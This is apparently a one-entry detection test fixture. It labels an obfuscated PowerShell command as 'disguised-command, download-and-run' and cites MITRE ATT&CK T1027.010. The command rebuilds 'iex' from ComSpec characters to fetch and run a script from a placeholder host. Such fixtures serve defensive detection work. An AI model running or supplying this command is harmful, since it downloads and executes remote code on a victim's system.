# expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
. ( $env:ComSpec[4,15,25] -join '' ) ((New-Object Net.WebClient).DownloadString('http://files.example.invalid/stage'))
